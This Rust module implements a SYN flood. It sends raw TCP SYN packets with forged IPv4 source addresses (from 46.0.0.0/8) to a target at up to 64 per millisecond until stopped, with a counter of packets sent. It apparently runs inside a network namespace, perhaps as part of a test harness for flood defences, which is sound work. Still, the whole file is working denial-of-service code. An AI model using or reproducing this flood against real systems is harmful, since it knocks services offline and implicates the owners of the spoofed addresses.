//! SYNs from sources that do not exist, out of a namespace, until somebody says stop. IPv4.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed};
use std::time::Duration;

use etherparse::PacketBuilder;
use socket2::{Domain, Protocol, Socket, Type};

use crate::Namespace;

/// Counts what is sent, and ends it.
#[derive(Default)]
pub struct SynFlood {
    sent: AtomicU64,
    stop: AtomicBool,
}

impl SynFlood {
    /// How many SYNs went out.
    pub fn sent(&self) -> u64 {
        self.sent.load(Relaxed)
    }

    /// [`SynFlood::send`] returns soon.
    pub fn stop(&self) {
        self.stop.store(true, Relaxed);
    }

    /// Sends to `target`, a burst of 64 a millisecond at most, in the calling thread. A source is never seen twice in the
    /// first sixteen million.
    pub fn send(&self, namespace: &Namespace, target: SocketAddrV4) {
        namespace.run(|| {
            // With the header of IP by the sender (raw(7), IPPROTO_RAW).
            let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(libc::IPPROTO_RAW)))
                .expect("a raw socket");
            let address = std::net::SocketAddr::from(target).into();
            let mut n = 0u32;
            while !self.stop.load(Relaxed) {
                for _ in 0..64 {
                    n = n.wrapping_add(1);
                    let packet = syn(n, target);
                    // A full queue loses a SYN of many.
                    if socket.send_to(&packet, &address).is_ok() {
                        self.sent.fetch_add(1, Relaxed);
                    }
                }
                std::thread::sleep(Duration::from_millis(1));
            }
        });
    }
}

fn syn(n: u32, target: SocketAddrV4) -> Vec<u8> {
    let mixed = n.wrapping_mul(0x9e37_79b1);
    let source = Ipv4Addr::from(0x2e00_0000 | n & 0x00ff_ffff);
    let builder = PacketBuilder::ipv4(source.octets(), target.ip().octets(), 64)
        .tcp(1024 | (mixed >> 17) as u16, target.port(), mixed, 64_240)
        .syn();
    let mut packet = Vec::with_capacity(builder.size(0));
    builder.write(&mut packet, &[]).expect("a buffer takes what is written");
    packet
}
